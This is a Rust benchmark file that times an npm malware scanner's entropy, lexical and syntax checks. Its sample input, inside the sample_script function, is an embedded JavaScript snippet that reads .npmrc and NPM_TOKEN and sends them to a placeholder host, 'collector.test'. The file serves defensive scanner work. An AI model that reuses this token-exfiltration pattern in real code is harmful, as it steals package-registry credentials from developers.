//! Scanner benchmarks: entropy, lexical patterns, syntax capabilities over one script.

use criterion::{black_box, criterion_group, criterion_main, Criterion};
use npm_features::scan::{shannon_entropy, LexicalScanner, PatternSet, ScriptLanguage, SyntaxMatcher};
use std::path::Path;

fn sample_script(lines: usize) -> String {
    let body = r#"
const fs = require('fs');
const https = require('https');
function collect(dir) {
    const data = fs.readFileSync(dir + '/.npmrc', 'utf8');
    const token = process.env.NPM_TOKEN || Buffer.from('aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=', 'base64').toString();
    https.request({ host: 'collector.test', path: '/c?t=' + encodeURIComponent(token) }).end(data);
}
"#;
    body.repeat(lines.max(1))
}

fn bench_entropy(c: &mut Criterion) {
    let text = sample_script(200);
    c.bench_function("entropy_200_blocks", |b| b.iter(|| shannon_entropy(black_box(&text))));
}

fn bench_lexical(c: &mut Criterion) {
    let scanner = LexicalScanner::new(PatternSet::source_defaults());
    let mut g = c.benchmark_group("lexical_by_size");
    for n in [10, 100, 1000] {
        let text = sample_script(n);
        g.bench_function(format!("blocks_{n}"), |b| b.iter(|| scanner.scan(black_box(&text))));
    }
    g.finish();
}

fn bench_syntax(c: &mut Criterion) {
    let matcher = SyntaxMatcher::default();
    let text = sample_script(100);
    c.bench_function("syntax_100_blocks", |b| {
        b.iter(|| {
            black_box(
                matcher
                    .analyze(Path::new("bench.js"), black_box(&text), ScriptLanguage::JavaScript)
                    .ok(),
            )
        })
    });
}

criterion_group!(benches, bench_entropy, bench_lexical, bench_syntax);
criterion_main!(benches);
